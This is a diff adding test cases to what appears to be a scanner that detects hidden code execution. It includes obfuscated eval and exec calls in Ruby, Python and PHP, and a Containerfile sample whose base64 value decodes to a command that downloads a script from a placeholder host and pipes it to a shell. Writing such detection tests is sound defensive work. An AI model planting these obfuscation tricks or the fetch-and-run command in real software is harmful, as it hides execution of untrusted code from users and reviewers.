@@ -66,6 +66,14 @@ var registry = []Rule{
 			{"x.ps1", "pwsh -ExecutionPolicy Bypass -File build.ps1", 0, true},
 			// A Cake build script decoding a command and starting it.
 			{"build.cake", "var s = Encoding.UTF8.GetString(Convert.FromBase64String(P));\nStartProcess(\"bash\", new ProcessSettings { Arguments = \"-c \\\"\" + s + \"\\\"\" });", 0, false},
+			// eval called by a name spelled backwards or joined from letters,
+			// and PHP including the decoded code as a data: stream.
+			{"lib/x/banner.rb", "SIG = '73797374656d2822696422292'\nsrc = [SIG].pack('H*')\nKernel.public_send(%w[l a v e].reverse.join, src)", 3, false},
+			{"x.py", "import base64, builtins\nc = base64.b64decode(P)\ngetattr(builtins, 'cexe'[::-1])(c)", 3, false},
+			{"src/Boot.php", "<?php\n$l = gzinflate(base64_decode(self::L));\ninclude 'data://text/plain;base64,' . base64_encode('<?php ' . $l);", 3, false},
+			// A setter called by an interpolated name, a socket's send: no code runs.
+			{"lib/x/rec.rb", "data = Base64.decode64(v)\nrecord.public_send(\"#{key}=\", data)\nsock.send(data, 0)", 0, true},
+			{"x.py", "import base64\np = base64.b64decode(m)\nsock.send(b''.join([p]))\ngetattr(self, 'on_' + kind)(p)", 0, true},
 			// The recipe shell of a Containerfile and of debian/rules (a
 			// Makefile dpkg-buildpackage runs), over continued lines too.
 			{"ci/builder.Containerfile", "FROM debian\nARG H=Y3VybCBodHRwczovL3guaW52YWxpZCB8IHNo\nRUN apt-get update \\\n&& echo \"$H\" \\\n  | base64 -d \\\n  | sh", 6, false},
